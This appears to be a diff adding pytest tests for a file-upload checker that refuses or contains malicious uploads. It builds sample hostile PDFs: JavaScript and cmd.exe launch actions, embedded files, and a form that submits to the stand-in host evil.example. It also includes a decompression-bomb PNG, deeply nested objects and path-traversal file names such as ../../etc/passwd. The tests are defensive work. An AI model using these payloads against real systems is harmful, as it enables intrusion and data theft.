@@ -1,0 +1,103 @@
+"""Uploaded files that mean harm: refused, or bounded in time and memory."""
+
+import io
+import resource
+import time
+
+import pytest
+from PIL import Image
+
+from engine.connectors.pdf_pages import MAX_PIXELS, draw_pages
+from engine.model.errors import FileRejected
+from engine.records.file_check import check_file, safe_name
+
+
+def pdf(objects=(), *, box="0 0 595 842", catalog=b""):
+    out, places = io.BytesIO(), []
+    out.write(b"%PDF-1.4\n")
+    page = f"<</Type/Page/Parent 2 0 R/MediaBox[{box}]>>".encode()
+    every = [b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", page, *objects]
+    for number, content in enumerate(every, 1):
+        places.append(out.tell())
+        out.write(b"%d 0 obj" % number + content + b"endobj\n")
+    table = out.tell()
+    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1) + b"".join(b"%010d 00000 n \n" % place for place in places))
+    out.write(b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(places) + 1, table))
+    return out.getvalue()
+
+
+def verdict(name, content):
+    try:
+        check_file(name, content)
+    except FileRejected as refusal:
+        return refusal.details["reason"]
+    return "TAKEN"
+
+
+def test_an_ordinary_file_is_taken():
+    assert check_file("surat.PDF", pdf()).pages == 1
+
+
+@pytest.mark.parametrize(
+    "catalog",
+    [
+        b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>",
+        b"/OpenAction<</S/Launch/F(cmd.exe)>>",
+        b"/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>",
+        b"/AcroForm<</XFA 4 0 R>>",
+        b"/AA<</O<</S/SubmitForm/F(https://evil.example)>>>>",
+    ],
+)
+def test_a_pdf_that_acts_is_refused(catalog):
+    assert verdict("a.pdf", pdf([b"<<>>"], catalog=catalog)) == "ACTIVE"
+
+
+def test_what_acts_is_found_also_where_nothing_leads_to_it():
+    assert verdict("a.pdf", pdf([b"<</Type/Action/S/JavaScript/JS(x)>>"])) == "ACTIVE"
+
+
+def test_countless_objects_are_refused_quickly():
+    began = time.monotonic()
+    assert verdict("a.pdf", pdf([b"1"] * 90_000)) == "ACTIVE"
+    assert time.monotonic() - began < 20
+
+
+@pytest.mark.parametrize("content", [b"[" * 5_000 + b"]" * 5_000, b"<</A" * 3_000 + b" 1" + b">>" * 3_000])
+def test_endless_nesting_does_not_break_the_check(content):
+    assert verdict("a.pdf", pdf([content])) in ("TAKEN", "BROKEN")
+
+
+def test_a_page_of_a_kilometre_is_drawn_small():
+    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    (image,) = draw_pages(pdf(box="0 0 1 10000000"), "application/pdf")
+    with Image.open(io.BytesIO(image)) as drawn:
+        assert drawn.width * drawn.height <= MAX_PIXELS * 1.2
+    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 400_000, "kilobytes"
+
+
+def test_an_ordinary_page_is_drawn_wide():
+    (image,) = draw_pages(pdf(), "application/pdf")
+    with Image.open(io.BytesIO(image)) as drawn:
+        assert 1_190 <= drawn.width <= 1_201
+
+
+def test_a_picture_that_unpacks_to_gigabytes_is_refused():
+    out = io.BytesIO()
+    Image.new("1", (30_000, 30_000)).save(out, "PNG")
+    assert len(out.getvalue()) < 500_000
+    assert verdict("a.png", out.getvalue()) == "TOO_LARGE"
+
+
+@pytest.mark.parametrize(
+    ("name", "safe"),
+    [
+        ("../../etc/passwd.pdf", "passwd.pdf"),
+        ("C:\\temp\\surat.pdf", "surat.pdf"),
+        ("a\x00b\r\n.pdf", "ab.pdf"),
+        ("", "berkas"),
+        ("...", "berkas"),
+        ("x" * 300 + ".pdf", "x" * 100 + ".pdf"),
+    ],
+)
+def test_names_are_made_harmless(name, safe):
+    assert safe_name(name) == safe
